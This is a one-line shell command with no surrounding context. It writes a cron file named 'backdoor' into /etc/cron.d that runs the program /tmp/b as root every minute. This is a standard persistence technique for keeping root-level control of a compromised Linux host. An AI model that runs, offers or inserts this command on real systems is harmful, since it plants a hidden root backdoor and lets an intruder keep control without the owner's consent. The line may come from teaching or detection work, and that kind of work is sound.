echo "* * * * * root /tmp/b" > /etc/cron.d/backdoor
